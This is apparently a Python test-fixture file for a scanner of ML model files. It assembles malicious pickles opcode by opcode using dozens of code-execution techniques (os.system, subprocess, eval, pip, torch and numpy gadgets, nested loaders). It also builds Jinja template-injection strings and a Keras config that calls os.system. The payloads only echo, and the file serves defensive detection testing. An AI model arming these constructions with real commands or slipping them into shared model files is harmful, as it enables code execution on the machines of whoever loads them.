"""Hand-built fixtures for scan-models tests. Malicious pickles are assembled opcode by opcode; their
payloads only ever `echo`. Nothing here loads them."""

from __future__ import annotations

import io
import json
import struct
import zipfile

PAYLOAD = "echo mlwarden-test"


# ---- pickle opcodes ---------------------------------------------------------------------------------
def proto(p: int) -> bytes:
    return b"\x80" + bytes([p])


def su(s: str) -> bytes:
    """SHORT_BINUNICODE (or BINUNICODE when long)."""
    raw = s.encode()
    if len(raw) < 256:
        return b"\x8c" + bytes([len(raw)]) + raw
    return b"X" + struct.pack("<I", len(raw)) + raw


def glob0(module: str, name: str) -> bytes:
    """Protocol 0 GLOBAL."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def stack_global(module: str, name: str) -> bytes:
    return su(module) + su(name) + b"\x93"


def call(fn: bytes, *args: bytes) -> bytes:
    """fn(*args) via MARK ... TUPLE REDUCE."""
    return fn + b"(" + b"".join(args) + b"tR"


def frame(body: bytes) -> bytes:
    return b"\x95" + struct.pack("<Q", len(body)) + body


def p4(body: bytes) -> bytes:
    return proto(4) + frame(body + b".")


def reduce_call(module: str, name: str, arg: str = PAYLOAD, protocol: int = 2) -> bytes:
    """A complete protocol-2+ pickle calling module.name(arg)."""
    return proto(protocol) + call(glob0(module, name), su(arg)) + b"."


def stack_call(module: str, name: str, arg: str = PAYLOAD) -> bytes:
    return p4(call(stack_global(module, name), su(arg)))


BENIGN = proto(2) + b"}q\x00(" + su("a") + b"K\x01" + su("b") + b"]q\x01(K\x02K\x03eu."

# ---- techniques ------------------------------------------------------------------------------------
TECHNIQUES: dict[str, bytes] = {
    "global_proto0": b"cos\nsystem\n(S'" + PAYLOAD.encode() + b"'\ntR.",
    "inst_proto0": b"(S'" + PAYLOAD.encode() + b"'\nios\nsystem\n.",
    "obj_proto1": b"(cos\nsystem\nS'" + PAYLOAD.encode() + b"'\no.",
    "stack_global_p4": stack_call("os", "system"),
    "memo_indirect": p4(
        su("os")
        + b"\x94"
        + su("system")
        + b"\x94"
        + b"0"
        + b"0"
        + b"h\x00h\x01\x93"
        + b"("
        + su(PAYLOAD)
        + b"tR"
    ),
    "long_memo_indirect": proto(2)
    + su("subprocess")
    + b"r\x00\x10\x00\x00"
    + b"0"
    + su("getoutput")
    + b"r\x01\x10\x00\x00"
    + b"0"
    + b"j\x00\x10\x00\x00j\x01\x10\x00\x00\x93("
    + su(PAYLOAD)
    + b"tR.",
    "torch_dotted_os": stack_call("torch", "os.system"),
    "numpy_dotted": stack_call("numpy", "testing._private.utils.runstring"),
    "newobj_popen": proto(2)
    + glob0("subprocess", "Popen")
    + b"("
    + su("echo")
    + su("hi")
    + b"l"
    + b"\x85\x81.",
    "newobj_ex": p4(stack_global("subprocess", "Popen") + b"(" + su(PAYLOAD) + b"t}\x92"),
    "builtins_eval": reduce_call("builtins", "eval", "print('mlwarden-test')"),
    "py2_builtin_exec": b"c__builtin__\nexec\n(S'print(1)'\ntR.",
    "getattr_chain": proto(2)
    + call(glob0("builtins", "getattr"), glob0("builtins", "__import__"), su("x"))
    + b".",
    "import_then_attr": proto(2) + call(glob0("builtins", "__import__"), su("os")) + b".",
    "pip_main": reduce_call("pip", "main", "install"),
    "pip_internal": reduce_call("pip._internal.cli.main", "main", "install"),
    "pydoc_pipepager": proto(2) + call(glob0("pydoc", "pipepager"), su("x"), su(PAYLOAD)) + b".",
    "runpy": reduce_call("runpy", "_run_code", "print(1)"),
    "importlib": reduce_call("importlib", "import_module", "os"),
    "webbrowser": reduce_call("webbrowser", "open", "http://127.0.0.1/"),
    "socket": reduce_call("socket", "create_connection", "x"),
    "ctypes": reduce_call("ctypes", "CDLL", "libc.so.6"),
    "shutil": reduce_call("shutil", "rmtree", "/nonexistent-mlwarden"),
    "code_interact": reduce_call("code", "interact", "x"),
    "pty_spawn": reduce_call("pty", "spawn", "/bin/true"),
    "posix_system": reduce_call("posix", "system"),
    "nt_system": reduce_call("nt", "system"),
    "asyncio_subprocess": reduce_call("asyncio.subprocess", "create_subprocess_shell"),
    "operator_attrgetter": proto(2)
    + call(call(glob0("operator", "attrgetter"), su("system")), glob0("builtins", "object"))
    + b".",
    "operator_methodcaller": reduce_call("operator", "methodcaller", "system"),
    "functools_partial": proto(2)
    + call(glob0("functools", "partial"), glob0("os", "system"), su(PAYLOAD))
    + b".",
    "torch_inductor": reduce_call("torch._inductor.codecache", "compile_file"),
    "torch_cpp_extension": reduce_call("torch.utils.cpp_extension", "load_inline", "x"),
    "torch_jit_load": reduce_call("torch.jit", "load", "x.pt"),
    "torch_hub": reduce_call("torch.hub", "load", "evil/repo"),
    "torch_serialization_load": reduce_call("torch.serialization", "load", "x.pt"),
    "torch_dynamo": reduce_call("torch._dynamo.utils", "exec_code"),
    "torch_fx": reduce_call("torch.fx.graph_module", "_forward_from_src", "print(1)"),
    "numpy_runstring": reduce_call("numpy.testing._private.utils", "runstring", "print(1)"),
    "numpy_f2py": reduce_call("numpy.f2py", "compile", "x"),
    "numpy_load": reduce_call("numpy", "load", "x.npy"),
    "sklearn_testing": reduce_call(
        "sklearn.utils._testing", "assert_run_python_script_without_output", "print(1)"
    ),
    "unknown_class_build": proto(2)
    + glob0("__main__", "Payload")
    + b")\x81}"
    + su("cmd")
    + su(PAYLOAD)
    + b"sb.",
    "unknown_function": reduce_call("mlwarden_fixture_mod", "do_something"),
    "ext1_code": proto(2) + b"\x82\x7f(" + su(PAYLOAD) + b"tR.",
    "ext2_code": proto(2) + b"\x83\x39\x30(" + su(PAYLOAD) + b"tR.",
    "ext4_code": proto(2) + b"\x84\x01\x02\x03\x04(" + su(PAYLOAD) + b"tR.",
    "dynamic_stack_global": proto(4)
    + call(glob0("_codecs", "encode"), su("os"), su("latin1"))
    + su("system")
    + b"\x93("
    + su(PAYLOAD)
    + b"tR.",
    "binstring_names": proto(2) + b"U\x02osU\x06system\x93(" + su(PAYLOAD) + b"tR.",
    "string_names_p0": b"S'os'\nS'system'\n\x93(S'" + PAYLOAD.encode() + b"'\ntR.",
    "second_pickle": BENIGN + reduce_call("os", "system"),
    "junk_then_pickle": BENIGN + b"\x00JUNK" * 50 + reduce_call("os", "system"),
    "junk_then_proto0": BENIGN + b"\xffgarbage\n" * 10 + b"cos\nsystem\n(S'echo'\ntR.",
    "large_payload_skip": proto(4)
    + b"\x8e"
    + struct.pack("<Q", 3_000_000)
    + b"\x00" * 3_000_000
    + b"0"
    + call(stack_global("os", "system"), su(PAYLOAD))
    + b".",
    "dunder_globals": stack_call("torch.nn.modules.module", "Module.__init__.__globals__"),
    "pandas_query": stack_call("pandas.core.frame", "DataFrame.query"),
    "allowlisted_class_attr": stack_call("collections", "OrderedDict.__init__.__globals__"),
    "subclass_gadget": reduce_call("asyncio.unix_events", "_UnixSubprocessTransport"),
    "timeit_gadget": reduce_call("timeit", "timeit", "print(1)"),
    "nested_loader": b"",  # filled in by nested_loader_pickle()
}


def nested_loader_pickle(inner: bytes) -> bytes:
    """torch.storage._load_from_bytes(inner): torch.load runs on the nested bytes."""
    return (
        proto(2)
        + call(
            glob0("torch.storage", "_load_from_bytes"),
            b"C" + bytes([len(inner)]) + inner
            if len(inner) < 256
            else b"B" + struct.pack("<I", len(inner)) + inner,
        )
        + b"."
    )


TECHNIQUES["nested_loader"] = nested_loader_pickle(reduce_call("os", "system"))


# ---- archives ---------------------------------------------------------------------------------------
def torch_like_zip(
    pkl: bytes,
    folder: str = "archive",
    extra: dict[str, bytes] | None = None,
    compress: int = zipfile.ZIP_STORED,
) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compress) as zf:
        zf.writestr(f"{folder}/data.pkl", pkl)
        zf.writestr(f"{folder}/byteorder", b"little")
        zf.writestr(f"{folder}/data/0", b"\x00" * 64)
        zf.writestr(f"{folder}/version", b"3\n")
        for name, data in (extra or {}).items():
            zf.writestr(name, data)
    return buf.getvalue()


def duplicate_member_zip(first: bytes, second: bytes, name: str = "archive/data.pkl") -> bytes:
    import warnings

    buf = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(buf, "w") as zf:
            zf.writestr(name, first)
            zf.writestr(name, second)
            zf.writestr("archive/version", b"3\n")
    return buf.getvalue()


def corrupt_crc(zip_bytes: bytes, member: str) -> bytes:
    """Flip the CRC of ``member`` in both its local header and the central directory."""
    data = bytearray(zip_bytes)
    name = member.encode()
    i = data.find(b"PK\x03\x04" + b"")
    while i >= 0:
        nlen = struct.unpack_from("<H", data, i + 26)[0]
        if bytes(data[i + 30 : i + 30 + nlen]) == name:
            struct.pack_into("<I", data, i + 14, struct.unpack_from("<I", data, i + 14)[0] ^ 0xDEADBEEF)
        i = data.find(b"PK\x03\x04", i + 4)
    j = data.find(b"PK\x01\x02")
    while j >= 0:
        nlen = struct.unpack_from("<H", data, j + 28)[0]
        if bytes(data[j + 46 : j + 46 + nlen]) == name:
            struct.pack_into("<I", data, j + 16, struct.unpack_from("<I", data, j + 16)[0] ^ 0xDEADBEEF)
        j = data.find(b"PK\x01\x02", j + 4)
    return bytes(data)


def zip_of(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


# ---- safetensors ------------------------------------------------------------------------------------
def safetensors(
    tensors: dict[str, tuple[str, list[int], bytes]] | None = None,
    header_override: dict | None = None,
    trailing: bytes = b"",
) -> bytes:
    tensors = (
        tensors
        if tensors is not None
        else {"w": ("F32", [2, 2], b"\x00" * 16), "b": ("F16", [3], b"\x00" * 6)}
    )
    header: dict = {"__metadata__": {"format": "pt"}}
    data = b""
    for name, (dtype, shape, raw) in tensors.items():
        header[name] = {"dtype": dtype, "shape": shape, "data_offsets": [len(data), len(data) + len(raw)]}
        data += raw
    if header_override is not None:
        header = header_override
    hj = json.dumps(header).encode()
    hj += b" " * (-len(hj) % 8)
    return struct.pack("<Q", len(hj)) + hj + data + trailing


# ---- GGUF ---------------------------------------------------------------------------------------------
def gguf(kv: dict[str, object], version: int = 3) -> bytes:
    def s(x: str) -> bytes:
        raw = x.encode()
        return struct.pack("<Q", len(raw)) + raw

    out = b"GGUF" + struct.pack("<I", version) + struct.pack("<QQ", 0, len(kv))
    for key, val in kv.items():
        out += s(key)
        if isinstance(val, str):
            out += struct.pack("<I", 8) + s(val)
        elif isinstance(val, bool):
            out += struct.pack("<I", 7) + bytes([val])
        elif isinstance(val, int):
            out += struct.pack("<I", 4) + struct.pack("<I", val)
        elif isinstance(val, float):
            out += struct.pack("<I", 6) + struct.pack("<f", val)
        elif isinstance(val, list) and all(isinstance(v, str) for v in val):
            out += struct.pack("<I", 9) + struct.pack("<I", 8) + struct.pack("<Q", len(val))
            out += b"".join(s(v) for v in val)
        elif isinstance(val, list):
            out += struct.pack("<I", 9) + struct.pack("<I", 5) + struct.pack("<Q", len(val))
            out += b"".join(struct.pack("<i", v) for v in val)
    return out


BENIGN_TEMPLATE = (
    "{%- set ns = namespace(found=false) -%}{%- for message in messages -%}"
    "{%- if message['role'] == 'system' -%}{%- set ns.found = true -%}{%- endif -%}"
    "{{ '<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n' + message['content'] | trim + "
    "'<|eot_id|>' }}{%- endfor -%}{%- if add_generation_prompt -%}{{ '<|start_header_id|>assistant' }}"
    "{%- endif -%}{% for m in messages | selectattr('role', 'equalto', 'tool') %}{{ m.content | tojson }}"
    "{% endfor %}{{ raise_exception('x') if false }}"
)
MALICIOUS_TEMPLATES = [
    "{{ cycler.__init__.__globals__.os.popen('" + PAYLOAD + "').read() }}",
    "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% endfor %}",
    "{{ self|attr('_TemplateReference__context') }}",
    "{{ joiner.__init__.__globals__['__builtins__']['__import__']('os') }}",
    "{{ namespace.__init__['__glo' ~ 'bals__'] }}",
    "{{ lipsum|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}",
    "{{ x[['_','_']|join ~ 'class' ~ ['_','_']|join] }}",
    "{{ ()|attr('%c%c%s%c%c'|format(95,95,'class',95,95)) }}",
]


# ---- ONNX protobuf ------------------------------------------------------------------------------------
def _varint(n: int) -> bytes:
    out = b""
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out += bytes([b | 0x80])
        else:
            return out + bytes([b])


def _field(no: int, payload: bytes) -> bytes:
    return _varint(no << 3 | 2) + _varint(len(payload)) + payload


def _vfield(no: int, value: int) -> bytes:
    return _varint(no << 3) + _varint(value)


def onnx_model(locations: list[str], inline: bool = False) -> bytes:
    inits = b""
    for i, loc in enumerate(locations):
        t = _vfield(1, 4) + _vfield(2, 1) + _field(8, f"w{i}".encode())
        if inline:
            t += _field(9, b"\x00" * 16)
        else:
            t += _field(13, _field(1, b"location") + _field(2, loc.encode()))
            t += _field(13, _field(1, b"offset") + _field(2, b"0"))
            t += _vfield(14, 1)
        inits += _field(5, t)
    node = _field(1, _field(1, b"x") + _field(2, b"y") + _field(4, b"Relu"))
    graph = node + _field(2, b"g") + inits
    return _vfield(1, 8) + _field(2, b"mlwarden-test") + _field(7, graph) + _field(8, _vfield(2, 17))


# ---- Keras ----------------------------------------------------------------------------------------------
def keras_config(layers: list[dict]) -> dict:
    return {
        "module": "keras",
        "class_name": "Sequential",
        "registered_name": None,
        "config": {"name": "sequential", "layers": layers},
    }


DENSE = {
    "module": "keras.layers",
    "class_name": "Dense",
    "registered_name": None,
    "config": {"name": "dense", "units": 4, "activation": "relu"},
}
LAMBDA_V3 = {
    "module": "keras.layers",
    "class_name": "Lambda",
    "registered_name": None,
    "config": {
        "name": "lambda",
        "function": {
            "class_name": "__lambda__",
            "config": {"code": "4wEAAAAAAAAA", "defaults": None, "closure": None},
        },
    },
}
FUNCTION_OS = {
    "module": "keras.layers",
    "class_name": "Dense",
    "registered_name": None,
    "config": {
        "name": "d",
        "units": 1,
        "activation": {
            "module": "os",
            "class_name": "function",
            "config": "system",
            "registered_name": "function",
        },
    },
}


def keras_zip(cfg: dict) -> bytes:
    return zip_of(
        {
            "metadata.json": json.dumps({"keras_version": "3.5.0"}).encode(),
            "config.json": json.dumps(cfg).encode(),
            "model.weights.h5": b"\x89HDF\r\n\x1a\n" + b"\0" * 64,
        }
    )


def fake_h5(cfg: dict | None) -> bytes:
    """An HDF5-signed file whose bytes hold a Keras model_config attribute value (as h5py writes it)."""
    body = b"\x89HDF\r\n\x1a\n" + b"\x00" * 200
    if cfg is not None:
        body += b"model_config\x00\x00\x00\x00" + json.dumps(cfg).encode() + b"\x00" * 50
    return body + b"\x00" * 100


def overlapping_zip(copies: int, size: int) -> bytes:
    """One deflated member and ``copies`` central-directory entries that all point at its data."""
    one = zip_of({"archive/data.pkl": b"\x80\x02]" + b"\x00" * size})
    cd = one.find(b"PK\x01\x02")
    eocd = one.find(b"PK\x05\x06")
    entry = one[cd:eocd]
    nlen = struct.unpack_from("<H", entry, 28)[0]
    entries = b""
    for i in range(copies):
        name = f"archive/data{i:05d}.pkl".encode()
        e = bytearray(entry[:46]) + name + entry[46 + nlen :]
        struct.pack_into("<H", e, 28, len(name))
        entries += bytes(e)
    end = bytearray(one[eocd:])
    struct.pack_into("<HHII", end, 8, copies, copies, len(entries), cd)
    return one[:cd] + entries + bytes(end)
